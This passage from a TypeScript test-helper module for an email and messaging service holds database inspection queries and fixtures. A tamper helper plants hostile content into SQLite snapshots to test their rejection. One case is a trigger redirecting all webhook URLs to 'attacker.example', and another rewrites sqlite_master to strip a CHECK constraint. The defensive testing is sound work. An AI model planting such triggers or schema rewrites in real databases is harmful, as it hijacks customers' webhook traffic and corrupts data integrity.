    'SELECT w.balance_cents::text AS balance, (SELECT SUM(amount_cents) FROM ledger l WHERE l.account_id = w.account_id)::text AS ledger FROM wallets w WHERE w.account_id = $1',
    [accountId],
  );
  return wallet;
}

/** The stored media file of this name (its owner, type and size): kept in the database, not on a replica's disk. */
export async function pgMediaOf(url: string, name: string): Promise<Array<{ account_id: string; content_type: string; size: number }>> {
  return await pgRows(url, 'SELECT account_id, content_type, size FROM media WHERE name = $1', [name]);
}

/** The names of every stored media file, as rows: what a refused upload must leave as it was. */
export async function pgMediaNames(url: string): Promise<Array<{ name: string }>> {
  return await pgRows(url, 'SELECT name FROM media');
}

/** The most attempts one worker process has in flight to one endpoint (its default window): a setting no surface shows. */
export const workerWindow: number = DEFAULT_WEBHOOK_OPTIONS.window;

/** Per worker process, how many webhook deliveries it holds claimed now (a lease set): which processes share the work. */
export async function deliveryClaimOwners(url: string): Promise<Array<{ owner: string; n: string }>> {
  return await pgRows(url, 'SELECT claimed_by AS owner, count(*) AS n FROM webhook_deliveries WHERE lease_until IS NOT NULL GROUP BY claimed_by');
}

/** How many webhook deliveries succeeded and are no longer claimed: recorded, their worker done with them. */
export async function settledDeliveryCount(url: string): Promise<number> {
  return Number((await pgRows<{ n: string }>(url, "SELECT count(*) AS n FROM webhook_deliveries WHERE status = 'succeeded' AND lease_until IS NULL"))[0]!.n);
}

/** The claim of an event's (first) webhook delivery: who holds it, if anyone, and its attempt number. */
export async function deliveryClaimOf(url: string, eventId: string): Promise<{ claimed_by: string | null; attempt: number } | undefined> {
  return (await pgRows<{ claimed_by: string | null; attempt: number }>(url, 'SELECT claimed_by, attempt::int AS attempt FROM webhook_deliveries WHERE event_id = $1', [eventId]))[0];
}

/** The status of an event's (first) webhook delivery; throws when the event has none. */
export async function deliveryStatusOf(url: string, eventId: string): Promise<string> {
  return (await pgRows<{ status: string }>(url, 'SELECT status FROM webhook_deliveries WHERE event_id = $1', [eventId]))[0]!.status;
}

/** Every webhook delivery's event and attempt number: an event sent twice would show a second row or attempt. */
export async function deliveryAttempts(url: string): Promise<Array<{ event_id: string; attempt: string }>> {
  return await pgRows(url, 'SELECT event_id, attempt FROM webhook_deliveries');
}

// --- SQLite snapshot files (no service running on them) -----------------------------------------

/** Opens the SQLite file `file` on its own connection, runs `use` and closes it. */
function withFile<T>(file: string, readonly: boolean, use: (db: Database.Database) => T): T {
  const db = new Database(file, { readonly });
  try {
    return use(db);
  } finally {
    db.close();
  }
}

/** A snapshot file's integrity check, its message count, and its messages without their conversation row (a torn copy). */
export function snapshotIntegrity(file: string): { integrity: unknown; messages: number; orphanMessages: number } {
  return withFile(file, true, (db) => ({
    integrity: db.pragma('integrity_check', { simple: true }),
    messages: (db.prepare('SELECT COUNT(*) AS n FROM messages').get() as { n: number }).n,
    orphanMessages: (db.prepare('SELECT COUNT(*) AS n FROM messages m WHERE NOT EXISTS (SELECT 1 FROM conversations c WHERE c.account_id = m.account_id AND c.counterparty = m.counterparty)').get() as { n: number }).n,
  }));
}

/** Per email, its charge rows in the ledger of a data directory's SQLite file (read-only, beside the process running on it): count, cents, quantity. */
export function emailChargesInFile(dataDir: string): Array<{ ref: string; n: number; cents: number; quantity: number }> {
  const db = new Database(join(dataDir, DB_FILE), { readonly: true, fileMustExist: true });
  try {
    return db
      .prepare(`SELECT ref, COUNT(*) AS n, -SUM(amount_cents) AS cents, SUM(quantity) AS quantity FROM ledger WHERE kind = 'charge' AND category = 'email' GROUP BY ref`)
      .all() as Array<{ ref: string; n: number; cents: number; quantity: number }>;
  } finally {
    db.close();
  }
}

/** Every message body an SQLite file holds (a snapshot, or a data directory's database with no service on it). */
export function snapshotMessageBodies(file: string): string[] {
  return withFile(file, true, (db) => (db.prepare('SELECT body FROM messages').all() as Array<{ body: string }>).map((m) => m.body));
}

/** A snapshot made as an svc one migration older would have: its newest recorded version removed. Returns that version. */
export function makeSnapshotOlder(file: string): number {
  return withFile(file, false, (db) => {
    const latest = (db.prepare('SELECT MAX(version) AS v FROM schema_migrations').get() as { v: number }).v;
    db.prepare('DELETE FROM schema_migrations WHERE version = ?').run(latest);
    return latest;
  });
}

/**
 * What a hostile or foreign snapshot file can hold that ours never does, planted into `file`:
 * `trigger` (planted, on api_keys: it rewrites every webhook URL), `view` (planted_view), `dropped`
 * (table sandbox_dns gone), `column` (messages.planted), `index` (planted_index on messages),
 * `check` (the wallets table's CHECK (balance_cents >= 0) removed by rewriting its stored definition).
 */
export type SnapshotTamper = 'trigger' | 'view' | 'dropped' | 'column' | 'index' | 'check';

const TAMPER_SQL: Record<Exclude<SnapshotTamper, 'check'>, string> = {
  trigger: "CREATE TRIGGER planted AFTER INSERT ON api_keys BEGIN UPDATE webhook_endpoints SET url = 'https://attacker.example/hook'; END",
  view: 'CREATE VIEW planted_view AS SELECT body FROM messages',
  dropped: 'DROP TABLE sandbox_dns',
  column: 'ALTER TABLE messages ADD COLUMN planted TEXT',
  index: 'CREATE INDEX planted_index ON messages(body)',
};

/** Plants `tamper` (see SnapshotTamper) into the snapshot file `file`, as no svc writes it. */
export function tamperSnapshot(file: string, tamper: SnapshotTamper): void {
  withFile(file, false, (db) => {
    if (tamper !== 'check') return void db.exec(TAMPER_SQL[tamper]);
    // A removed CHECK: the stored definition rewritten, as a hostile file can be.
    const { sql: table } = db.prepare("SELECT sql FROM sqlite_master WHERE name = 'wallets'").get() as { sql: string };
    db.unsafeMode(true);
    db.pragma('writable_schema = ON');
    db.prepare("UPDATE sqlite_master SET sql = ? WHERE name = 'wallets'").run(table.replace('CHECK (balance_cents >= 0)', ''));
    db.pragma('writable_schema = OFF');
  });
}

// --- what the shared fixtures (test/*-fixtures.ts, test/helpers/*-fixtures.ts) plant or read -----

/** An event as stored: its id, feed position and webhook body. */
export type StoredEvent = EventRecord;

/**
 * Emits `type` with `fields` for `accountId` in a write transaction of its own, as a domain function
 * emits an event with the change it reports: the outbox (its webhook deliveries) is written with it
 * and the feed shows it once committed. For webhook and feed tests that need events of any type, with
 * fields of their choosing, about records that need not exist: no surface emits an event alone.
 */
export async function emitEvent(svc: Pick<Inspectable, 'deps'>, accountId: string, type: string, fields: Record<string, unknown> = {}): Promise<StoredEvent> {
  return await svc.deps.uow.write(async (tx) => await tx.events.emit(accountId, type, fields));
}

/**
 * A sending domain stored for `accountId` in `status` (meant for `failed` and `degraded`), with no DNS
 * records; returns its id. Through the API a domain reaches those only through checks against the
 * sandbox DNS over time (email-domains.test.ts walks those moves); a send test needs the state at once.
 */
export async function plantSendingDomain(svc: Pick<Inspectable, 'sql'> & { now(): number }, accountId: string, domain: string, status: DomainStatus): Promise<string> {
  const id = `dom_${randomUUID().replace(/-/g, '')}`;
  const now = svc.now();
  const verified = status === 'verified' || status === 'degraded';
  await svc.sql.run(
    `INSERT INTO sending_domains (id, account_id, domain, status, records, ever_verified, created_at, verified_at, last_checked_at, updated_at)
     VALUES (?, ?, ?, ?, '[]', ?, ?, ?, ?, ?)`,
    id, accountId, domain.toLowerCase(), status, verified ? 1 : 0, now, verified ? now : null, now, now);
  return id;
}

/**
 * An email stored as the accept path stores it — the email (its id minted here and returned), its
 * recipients in order and its `email.deliver` job scheduled at `createdAt`, in one transaction — with
 * the recipients' states as given (a recipient `suppressed` at the accept is never handed over).
 * POST /v1/emails decides those states itself, charges, and takes only the caller's key mode; the
 * mail server's work that follows is real.
 */
export async function plantAcceptedEmail(svc: Pick<Inspectable, 'deps'>, email: Omit<EmailRecord, 'id'>, recipients: NewRecipient[]): Promise<string> {
  const id = newId('eml');
  await svc.deps.uow.write(async (tx) => {
    await tx.emails.insert({ ...email, id }, recipients);
    await tx.scheduler.schedule(EMAIL_DELIVER_JOB, email.createdAt, { emailId: id });
  });
  return id;
}

/** An email as stored, with its recipients (their status, delivery time and stamps in epoch ms); throws when none has this id. */
export async function storedEmail(svc: Pick<Inspectable, 'deps'>, id: string): Promise<EmailRecord & { recipients: RecipientRecord[] }> {
  return await svc.deps.uow.read(async (tx) => {
    const email = await tx.emails.getById(id);
    if (!email) throw new Error(`storedEmail: no email ${id}`);
    return { ...email, recipients: await tx.emails.recipients(id) };
  });
}

/**
 * A brand's status set to `draft` in storage, nothing else changed. A brand is submitted (a mock
 * brand approved) as `POST /v1/brands` creates it and no request moves one back to `draft`, yet the
 * hosted pages answer for a brand in every state.
 */
export async function setBrandDraft(svc: Pick<Inspectable, 'sql'>, brandId: string): Promise<void> {
  await svc.sql.run("UPDATE brands SET status = 'draft' WHERE id = ?", brandId);
}
